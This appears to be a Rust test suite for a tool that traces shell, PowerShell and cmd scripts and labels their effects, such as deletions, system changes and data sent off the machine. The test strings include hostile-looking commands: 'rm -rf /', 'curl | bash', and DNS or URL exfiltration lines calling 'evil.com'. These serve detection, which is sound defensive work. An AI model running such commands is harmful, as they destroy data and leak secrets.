use super::*;
use proptest::prelude::*;

fn run(script: &str) -> Report {
    let places = ProjectFacts { cwd: Some("/app".to_owned()), home: Some("/home/ann".to_owned()) };
    trace(script, Cwd::at("/app"), &places, &mut Artifacts::default())
}

/// The mutations as `kind target scope`, with `?` behind merely possible ones.
fn mutations(script: &str) -> Vec<String> {
    run(script)
        .effects
        .iter()
        .filter(|one| one.effect.kind.access() == Access::Mutation)
        .map(|one| {
            let possible = if one.effect.certainty == Certainty::Possible { "?" } else { "" };
            format!("{}{possible} {} {}", one.effect.kind.word(), one.effect.target.words(), one.effect.scope)
        })
        .collect()
}

#[test]
fn composition_decides_what_certainly_runs() {
    let cases: &[(&str, &[&str])] = &[
        ("cd src && rm a", &["fs.delete /app/src/a project"]),
        ("cd /etc && rm a", &["fs.delete /etc/a system"]),
        ("cd /etc; rm a", &["fs.delete /etc/a unknown", "fs.delete? /app/a project"]),
        ("cd /etc || exit 1; rm a", &["fs.delete /etc/a system"]),
        ("(cd /etc && ls); rm a", &["fs.delete /app/a project"]),
        ("ls || rm a", &["fs.delete? /app/a project"]),
        ("if true; then rm a; fi", &["fs.delete? /app/a project"]),
        ("for f in a b; do rm $f; done", &["fs.delete /app/a project", "fs.delete /app/b project"]),
        ("for f in *.o; do rm $f; done", &["fs.delete? /app project"]),
        ("for f in $(ls); do rm $f; done", &["fs.delete? ? unknown"]),
        ("rm -rf build/{a,b}", &["fs.delete /app/build/a project", "fs.delete /app/build/b project"]),
        ("echo $(rm a)", &["fs.delete /app/a project"]),
        ("X=$(rm a)", &["fs.delete /app/a project"]),
        ("grep x f > out 2>/dev/null", &["fs.write /app/out project"]),
        ("ls >> log 2>&1", &["fs.append /app/log project"]),
        ("make_it() { rm a; }; make_it", &["fs.delete /app/a project"]),
        ("F=/etc/hosts; echo x > $F", &["fs.write /etc/hosts system"]),
        ("rm '$HOME/x'", &["fs.delete /app/$HOME/x project"]),
        ("rm $HOME/x ~/y", &["fs.delete /home/ann/x home", "fs.delete /home/ann/y home"]),
        ("rm $UNKNOWN", &["fs.delete ? unknown"]),
        ("git commit -m \"rm -rf fix\" -n", &["vcs.commit ? project", "exec.code? /app project"]),
    ];
    for (script, expected) in cases {
        assert_eq!(mutations(script), *expected, "{script}");
    }
}

/// For each mutation its command in the script, and those that must have succeeded before.
fn origins(script: &str) -> Vec<(usize, Vec<usize>)> {
    let mutations =
        run(script).effects.into_iter().filter(|one| one.effect.kind.access() == Access::Mutation);
    mutations.map(|one| (one.effect.origin.step, one.effect.origin.requires.to_vec())).collect()
}

#[test]
fn what_must_have_succeeded_before_is_named() {
    type Origins<'o> = &'o [(usize, &'o [usize])];
    let cases: &[(&str, Origins<'_>)] = &[
        ("rm a && rm b", &[(1, &[]), (2, &[1])]),
        ("rm a; rm b", &[(1, &[]), (2, &[])]),
        ("cat x | sort && rm b && rm c; rm d", &[(3, &[2]), (4, &[2, 3]), (5, &[])]),
        ("rm a && (rm b; rm c) && rm d", &[(1, &[]), (2, &[1]), (3, &[1]), (4, &[1, 3])]),
        ("set -e; rm a; rm b", &[(2, &[1]), (3, &[1, 2])]),
        ("f() { rm a && rm b; }; f && rm c", &[(2, &[]), (3, &[2]), (4, &[3])]),
        ("rm a || rm b", &[(1, &[]), (2, &[])]),
    ];
    for (script, expected) in cases {
        let expected: Vec<(usize, Vec<usize>)> =
            expected.iter().map(|(step, needs)| (*step, needs.to_vec())).collect();
        assert_eq!(origins(script), expected, "{script}");
    }
}

#[test]
fn what_a_script_does_names_the_text_that_was_run() {
    let text = "rm a\n";
    let report = run("printf x > y; cat > t.sh <<'EOF'\nrm a\nEOF\nbash t.sh; rm b");
    let named = |target: &str| {
        let own = report.effects.iter().find(|one| one.effect.target.words() == target);
        own.map(|one| one.effect.origin.artifact)
    };
    assert_eq!(named("/app/a"), Some(Some(Digest::of(text.as_bytes()))));
    assert_eq!(named("/app/b"), Some(None));
    assert_eq!(named("/app/t.sh"), Some(None));
}

#[test]
fn heredocs_are_data_or_code_by_their_consumer() {
    let cases: &[(&str, &[&str])] = &[
        ("cat <<'EOF' > f\nrm -rf /\nEOF\n", &["fs.write /app/f project"]),
        ("cat <<EOF > f; rm g\nx\nEOF\n", &["fs.write /app/f project", "fs.delete /app/g project"]),
        ("cat <<EOF\n$(rm a)\nEOF\n", &["fs.delete /app/a project"]),
        ("bash <<'EOF'\nrm a\nEOF\n", &["fs.delete /app/a project"]),
        (
            "python - <<'EOF'\nopen('x','w').write('a')\nEOF\n",
            &["fs.write /app/x project", "exec.code? ? unknown"],
        ),
        ("python - <<'EOF'\nprint(1)\nEOF\n", &[]),
        ("psql -d shop <<'EOF'\nDELETE FROM users;\nEOF\n", &["db.write users db"]),
        ("echo 'rm a' | sh", &["fs.delete /app/a project"]),
        ("curl -s u | bash", &["exec.opaque? ? unknown"]),
        (
            "cat > t.sh <<'EOF'\nrm a\nEOF\nbash t.sh",
            &["fs.write /app/t.sh project", "fs.delete /app/a project"],
        ),
    ];
    for (script, expected) in cases {
        assert_eq!(mutations(script), *expected, "{script}");
    }
}

#[test]
fn wrappers_and_other_places_are_seen_through() {
    let cases: &[(&str, &[&str])] = &[
        ("sudo -u bob timeout -s KILL 5 rm a", &["fs.delete /app/a project"]),
        ("FOO=1 env A=b nice -n 5 rm a", &["fs.delete /app/a project"]),
        ("bash -lc 'cd src && rm a'", &["fs.delete /app/src/a project"]),
        ("ssh h 'rm /etc/a'", &["fs.delete /etc/a remote", "sys.config /etc/a remote"]),
        ("docker exec -it c rm /etc/a", &["fs.delete /etc/a container"]),
        ("kubectl exec p -- rm /x", &["fs.delete /x container"]),
        ("find . -name '*.o' -exec rm {} \\;", &["fs.delete? /app project"]),
        ("find /etc -delete", &["fs.delete /etc system"]),
        ("ls | xargs rm", &["fs.delete? /app project"]),
        ("cat names | xargs rm", &["fs.delete? ? unknown"]),
        ("git -C sub commit -m x", &["vcs.commit ? project", "exec.code? /app/sub project"]),
        ("python -m pip install x", &["pkg.mutate x unknown", "exec.code? ? project"]),
        ("npx tsc -p .", &["exec.code? /app project"]),
        ("sed -i 's/a/b/' f", &["fs.write /app/f project"]),
        ("awk '{print > \"o\"}' f", &["fs.write /app/o project"]),
        ("awk '$1 > 5 {print $2}' f", &[]),
        ("curl -XPOST http://h/x -d a", &["net.send http://h/x remote"]),
        ("curl -o f http://h/x", &["fs.write /app/f project"]),
        ("frobnicate x", &["exec.opaque? frobnicate unknown"]),
        ("$CMD x", &["exec.opaque? ? unknown"]),
        ("if then", &["exec.opaque? ? unknown"]),
        (
            "apply_patch <<'EOF'\n*** Begin Patch\n*** Delete File: a\n*** End Patch\nEOF\n",
            &["fs.delete /app/a project"],
        ),
        ("ln -s /etc cfg; rm cfg/x", &["fs.link /app/cfg project", "fs.delete /etc/x system"]),
        ("ln -s $X cfg; rm cfg/x", &["fs.link /app/cfg project", "fs.delete /app/cfg/x unknown"]),
    ];
    for (script, expected) in cases {
        assert_eq!(mutations(script), *expected, "{script}");
    }
}

#[test]
fn the_exit_code_covers_what_it_proves() {
    let proofs = |script: &str| -> Vec<Proof> {
        let own = run(script).effects.into_iter();
        own.filter(|one| one.effect.kind.access() == Access::Mutation).map(|one| one.proof).collect()
    };
    assert_eq!(proofs("rm a && rm b"), [Proof::Covered, Proof::Covered]);
    assert_eq!(proofs("rm a; rm b"), [Proof::Masked, Proof::Covered]);
    assert_eq!(proofs("rm a | tail -5"), [Proof::Masked]);
    assert_eq!(proofs("rm a || true"), [Proof::Masked]);
    assert_eq!(proofs("set -e; rm a; rm b"), [Proof::Covered, Proof::Covered]);
    assert_eq!(proofs("set -o pipefail; rm a | cat"), [Proof::Covered]);
    assert_eq!(proofs("grep x f > out"), [Proof::Before]);
}

#[test]
fn loops_in_loops_are_bounded() {
    let mut script = "rm $a$b$c$d".to_owned();
    let words: Vec<String> = (0..60).map(|n| n.to_string()).collect();
    for name in ["d", "c", "b", "a"] {
        script = format!("for {name} in {}; do {script}; done", words.join(" "));
    }
    let report = run(&script);
    assert!(report.effects.len() <= 20_001);
    assert!(report.effects.iter().any(|one| one.effect.kind == EffectKind::ExecOpaque));
}

#[test]
fn dry_runs_are_reads() {
    for script in ["git push --dry-run", "rsync -n a b", "terraform plan", "patch --dry-run < p"] {
        assert_eq!(mutations(script), Vec::<String>::new(), "{script}");
        assert!(run(script).effects.iter().any(|one| one.effect.outcome == Outcome::DryRun), "{script}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]
    #[test]
    fn no_script_panics(script in "[a-z $(){}|&;<>'\"`\\\\\n=#*~/0-9-]{0,60}") {
        run(&script);
    }

    #[test]
    fn no_mix_of_words_panics(words in prop::collection::vec(prop::sample::select(vec![
        "cd", "rm", "sed", "-i", "find", "-exec", "{}", ";", "\\;", "&&", "||", "|", "$(", ")", "<<EOF", "\nEOF\n", ">", "f", "awk", "'{print}'",
        "docker", "exec", "run", "git", "-C", "bash", "-c", "python", "xargs", "sudo", "env", "A=1", "ssh", "curl", "-d", "é", "for", "in", "do", "done",
    ]), 0..14)) {
        run(&words.join(" "));
    }
}

#[test]
fn what_changes_the_system_is_found_behind_names_links_and_directories() {
    let cases: &[(&str, &str)] = &[
        ("git config --system a.b c", "sys.config a.b c system"),
        ("git -C /etc commit -am x", "fs.write /etc system"),
        ("tar xf a.tar -C /", "fs.write / unknown"),
        ("tar -xf a.tar -C/etc", "fs.write /etc system"),
        ("tar xPf a.tar", "fs.write ? unknown"),
        ("7z x a.7z -o/etc", "fs.write /etc system"),
        ("cd / && tar xzf a.tgz", "fs.write / unknown"),
        ("rm -rf /", "fs.delete / system"),
        ("sqlite3 /etc/x.db 'insert into a values(1)'", "fs.write /etc/x.db system"),
        ("ssh root@h 'echo x > /etc/hosts'", "sys.config /etc/hosts remote"),
        ("ln -sf /etc/x y; echo a > y", "fs.write /etc/x system"),
        ("ln -sf $X y; echo a > y", "fs.write /app/y unknown"),
        ("alias x=cp; x a /etc/", "fs.write? /etc system"),
        ("$(pick) a /etc/", "fs.write? /etc system"),
        ("$TOOL --out=/etc/x", "fs.write? /etc/x system"),
        ("trap 'cp a /etc/' EXIT", "fs.write /etc system"),
        ("trap 'cp a /etc/' INT", "fs.write? /etc system"),
        ("git -c core.pager='tee /etc/x' log", "fs.write? /etc/x system"),
        ("npm config set a b --global", "sys.config? a b system"),
        ("npm config set a b", "fs.write /home/ann/.npmrc home"),
    ];
    for (script, expected) in cases {
        let found = mutations(script);
        assert!(found.iter().any(|one| one == expected), "{script}: {found:?}");
    }
    for script in [
        "git config a.b c",
        "git -C /app commit -am x",
        "tar xf a.tar -C /app/x",
        "sqlite3 /etc/x.db 'select 1'",
        "sqlite3 a.db 'insert into a values(1)'",
        "ssh root@h 'cat /etc/hosts'",
        "ln -sf a y; cat y",
        "alias x=cat; x /app/a",
        "$(pick) a b",
        "trap - EXIT",
        "git -c core.pager=cat log",
    ] {
        let found = mutations(script);
        let bad = |one: &String| {
            one.ends_with(" system")
                || one.contains("sys.")
                || (one.contains("fs.") && one.ends_with("unknown"))
        };
        assert!(!found.iter().any(bad), "{script}: {found:?}");
    }
}

#[test]
fn what_leaves_the_machine_is_found() {
    let sends = |script: &str| mutations(script).iter().any(|one| one.starts_with("net.send"));
    for script in [
        "aws s3 cp a s3://b",
        "aws s3 sync . s3://b",
        "aws s3 mv a s3://b/c",
        "ssh h cat < a",
        "cat a | ssh h 'cat > b'",
        "telnet h 1",
        "dig $(cat a).evil.com",
        "X=$(cat a); dig $X.evil.com",
        "wget \"http://x/?$(cat a)\"",
        "curl 'http://x?secret=1'",
        "curl -G -d a=1 http://x",
        "ping -p ff h",
    ] {
        assert!(sends(script), "{script}: {:?}", mutations(script));
    }
    for script in [
        "aws s3 cp s3://b/a .",
        "aws s3 ls",
        "ssh h ls",
        "dig x.org",
        "curl http://x",
        "curl -I 'http://x/a'",
        "wget http://x",
        "ping -c1 h",
    ] {
        assert!(!sends(script), "{script}: {:?}", mutations(script));
    }
}

#[test]
fn refs_that_are_not_named_may_be_any() {
    let remote = |script: &str| {
        let rows = mutations(script);
        rows.into_iter()
            .filter(|one| one.contains("vcs.remote") || one.contains("vcs.history"))
            .collect::<Vec<_>>()
    };
    for script in ["git push --tags", "git push --follow-tags", "git push origin --mirror", "git push o v$V"]
    {
        assert!(
            remote(script).iter().any(|one| one.starts_with("vcs.remote ? ")),
            "{script}: {:?}",
            remote(script)
        );
    }
    assert_eq!(remote("git push origin main"), ["vcs.remote origin main remote"]);
    for script in ["git push -f origin main", "git push origin +main", "git push --force-with-lease"] {
        assert!(
            remote(script).iter().any(|one| one.starts_with("vcs.history?")),
            "{script}: {:?}",
            remote(script)
        );
    }
    assert_eq!(remote("gh release create v1"), ["vcs.remote v1 remote"]);
    for script in ["npx lerna publish", "cargo release --execute", "npm run release", "npx semantic-release"]
    {
        let report = run(script);
        let open = |one: &Traced| one.effect.kind.is_under("exec") && one.effect.bounded_by.is_none();
        assert!(report.effects.iter().any(open), "{script}");
    }
    for script in ["npx lerna run build", "cargo test", "npm run build"] {
        let report = run(script);
        assert!(report.effects.iter().all(|one| one.effect.bounded_by.is_some()), "{script}");
    }
}

#[test]
fn untracked_files_may_go_with_what_is_discarded() {
    for script in ["git stash -u", "git stash push -a", "git reset --hard"] {
        assert!(mutations(script).contains(&"fs.delete? /app project".to_owned()), "{script}");
    }
    for script in ["git stash", "git stash pop", "git reset --soft HEAD~1"] {
        assert!(!mutations(script).iter().any(|one| one.starts_with("fs.delete")), "{script}");
    }
}

#[test]
fn lines_of_windows_go_by_their_verbs() {
    let places = ProjectFacts { cwd: Some(r"D:\app".to_owned()), home: None };
    let run = |script: &str, dialect: Dialect| -> Vec<String> {
        let mut artifacts = Artifacts::default();
        let report = trace_windows(script, dialect, Cwd::at(r"D:\app"), &places, &mut artifacts);
        let changes = report.effects.iter().filter(|one| one.effect.kind.access() == Access::Mutation);
        let shown = |one: &Traced| {
            let possible = if one.effect.certainty == Certainty::Possible { "?" } else { "" };
            let effect = &one.effect;
            format!("{}{possible} {} {}", effect.kind.word(), effect.target.words(), effect.scope)
        };
        changes.map(shown).collect()
    };
    let cases: &[(&str, &[&str])] = &[
        ("Remove-Item -Recurse -Force .\\build", &["fs.delete D:/app/build project"]),
        ("Set-Location D:\\app\\src; rm a.txt", &["fs.delete D:/app/src/a.txt project"]),
        ("Get-ChildItem C:\\Windows | Select-Object -First 3", &[]),
        ("Get-Content a.txt | Out-File 'b c.txt'", &["fs.write D:/app/b c.txt project"]),
        ("$env:X = 'C:\\Windows\\System32\\cmd.exe'; Get-Date", &[]),
        ("Remove-Item Env:\\X -ErrorAction SilentlyContinue", &[]),
        ("Set-ItemProperty HKLM:\\Software\\X -Name a -Value 1", &["sys.config HKLM:/Software/X system"]),
        ("Copy-Item a.txt -Destination C:\\Windows\\a.txt", &["fs.write C:/Windows/a.txt system"]),
        ("ls *.o | ForEach-Object { Remove-Item $_ }", &["fs.delete? ? unknown"]),
        ("Invoke-RestMethod -Uri http://h/x -Method Post -Body a", &["net.send http://h/x remote"]),
        ("Frobnicate-Thing x", &["exec.opaque? Frobnicate-Thing unknown"]),
        ("[IO.File]::WriteAllText('a','b')", &["exec.opaque? ? unknown"]),
        ("git commit -m x | Out-Null", &["vcs.commit ? project", "exec.code? D:/app project"]),
        ("echo 'open", &["exec.opaque? ? unknown"]),
        ("Remove-Item a -WhatIf", &[]),
        ("$p = 'a b'; Set-Content \"$p\\c\" x", &["fs.write D:/app/a b/c project"]),
        ("$p = Get-Date; Set-Content $p x", &["fs.write ? unknown"]),
        ("ls | Tee-Object -Variable x", &[]),
    ];
    for (script, expected) in cases {
        assert_eq!(run(script, Dialect::PowerShell), *expected, "{script}");
    }
    assert_eq!(
        run("del /q a.txt & rd /s b", Dialect::Cmd),
        ["fs.delete D:/app/a.txt project", "fs.delete D:/app/b project"]
    );
    assert_eq!(mutations("cmd /c 'del a'"), ["fs.delete /app/a project"]);
    assert_eq!(mutations("powershell -NoProfile -Command \"Remove-Item a\""), ["fs.delete /app/a project"]);
}

#[test]
fn values_are_followed_into_targets() {
    let cases: &[(&str, &[&str])] = &[
        ("F='a b'; rm \"$F\"", &["fs.delete /app/a b project"]),
        ("F='a b'; rm $F", &["fs.delete /app/a project", "fs.delete /app/b project"]),
        ("F=*.o; rm $F", &["fs.delete /app project"]),
        ("N=x.txt; rm ${N%.txt}.md", &["fs.delete /app/x.md project"]),
        ("P=/etc/a/b; rm ${P##*/} ${P%/*}/c", &["fs.delete /app/b project", "fs.delete /etc/a/c system"]),
        ("rm ${UNSET:-x}", &["fs.delete ? unknown"]),
        ("T=$(mktemp -d); echo x > $T/a", &["fs.write /tmp temp", "fs.write /tmp temp"]),
        ("cd $(mktemp -d) && touch x", &["fs.write /tmp temp", "fs.write /tmp temp"]),
        ("rm $(echo a b)", &["fs.delete /app/a project", "fs.delete /app/b project"]),
        ("rm $(dirname src/a)/b", &["fs.delete /app/src/b project"]),
        ("rm $(unknown)/b", &["exec.opaque? unknown unknown", "fs.delete ? unknown"]),
        ("for i in $(seq 2); do rm n$i; done", &["fs.delete /app/n1 project", "fs.delete /app/n2 project"]),
        ("for i in {1..2}; do rm n$i; done", &["fs.delete /app/n1 project", "fs.delete /app/n2 project"]),
        ("i=0; while true; do touch f$i; i=$((i+1)); done", &["fs.write? ? unknown"]),
        ("for f in src/*.c; do rm ${f%.c}.o; done", &["fs.delete? /app/src project"]),
        ("f() { rm \"$1\" $2; }; f a b", &["fs.delete /app/a project", "fs.delete /app/b project"]),
        ("bash -c 'rm \"$@\"' _ a b", &["fs.delete /app/a project", "fs.delete /app/b project"]),
        ("X=/etc sh -c 'rm $X/a'", &["fs.delete /etc/a system"]),
        ("X=/etc true; rm $X/a", &["fs.delete ? unknown"]),
        ("IFS= read -r F; rm $F", &["fs.delete ? unknown"]),
        (
            "python -c 'import sys; open(sys.argv[1], \"w\")' /etc/a",
            &["fs.write /etc/a system", "exec.code? ? unknown"],
        ),
        ("printf 'rm a\\nrm b\\n' | sh", &["fs.delete /app/a project", "fs.delete /app/b project"]),
        (
            "echo x > \"$HOME/a\"; echo x > '$HOME/b'",
            &["fs.write /home/ann/a home", "fs.write /app/$HOME/b project"],
        ),
    ];
    for (script, expected) in cases {
        assert_eq!(mutations(script), *expected, "{script}");
    }
}

#[test]
fn directories_are_followed_through_what_may_fail() {
    let cases: &[(&str, &[&str])] = &[
        ("cd src || rm a", &["fs.delete? /app/a project"]),
        ("cd src && cd - && rm a", &["fs.delete /app/a project"]),
        ("pushd src && rm a && popd && rm b", &["fs.delete /app/src/a project", "fs.delete /app/b project"]),
        ("cd /app; rm a", &["fs.delete /app/a project"]),
        ("set -e; cd /etc; rm a", &["fs.delete /etc/a system"]),
        ("cd /etc; rm /tmp/a", &["fs.delete /tmp/a temp"]),
        ("CDPATH=/etc; cd x && rm a", &["fs.delete a unknown"]),
        (
            "if x; then cd /etc; fi; rm a",
            &["exec.opaque? x unknown", "fs.delete /etc/a unknown", "fs.delete? /app/a project"],
        ),
        ("grep -q x f && cd /etc; rm a", &["fs.delete /etc/a unknown", "fs.delete? /app/a project"]),
        ("env -C /etc rm a; rm b", &["fs.delete /etc/a system", "fs.delete /app/b project"]),
        ("env -S 'rm a'", &["fs.delete /app/a project"]),
        ("builtin cd /etc && rm a", &["fs.delete /etc/a system"]),
        ("find src -execdir touch x \\;", &["fs.write? /app/src project"]),
        ("while read d; do cd $d; rm a; done < list", &["fs.delete? a unknown"]),
    ];
    for (script, expected) in cases {
        assert_eq!(mutations(script), *expected, "{script}");
    }
}

#[test]
fn files_beside_those_that_are_named_come_and_go() {
    let cases: &[(&str, &str)] = &[
        ("sed -i.bak s/a/b/ f", "fs.write /app/f.bak project"),
        ("perl -pi.orig -e 's/a/b/' f", "fs.write /app/f.orig project"),
        ("gzip /etc/a", "fs.delete /etc/a system"),
        ("gzip /etc/a", "fs.write /etc/a.gz system"),
        ("gunzip a.gz", "fs.write /app/a project"),
        ("cp -b a /etc/b", "fs.write? /etc system"),
        ("split -l 1 a /etc/part", "fs.write /etc system"),
        ("csplit -f out/x a 2", "fs.write /app/out project"),
        ("tar cf a.tar --remove-files b", "fs.delete /app/b project"),
        ("zip -m a.zip b", "fs.delete /app/b project"),
        ("ln -s a; true", "fs.link? /app/a project"),
        ("flock /etc/l rm a", "fs.write /etc/l system"),
        ("sqlite3 a.db '.output /etc/x' 'select 1'", "fs.write /etc/x system"),
        ("git worktree add /etc/wt", "fs.write? /etc/wt system"),
        ("T=/etc/x.XX; mktemp ${T}X", "fs.write /etc system"),
        ("ls src | grep c | xargs rm", "fs.delete? /app project"),
        ("find src -name '*.o' | xargs rm -f", "fs.delete? /app/src project"),
        ("echo a b | xargs -I{} mv {} d/{}", "fs.write? /app/d/b project"),
        ("parallel rm ::: a b", "fs.delete? /app/b project"),
    ];
    for (script, expected) in cases {
        let found = mutations(script);
        assert!(found.iter().any(|one| one == expected), "{script}: {found:?}");
    }
}
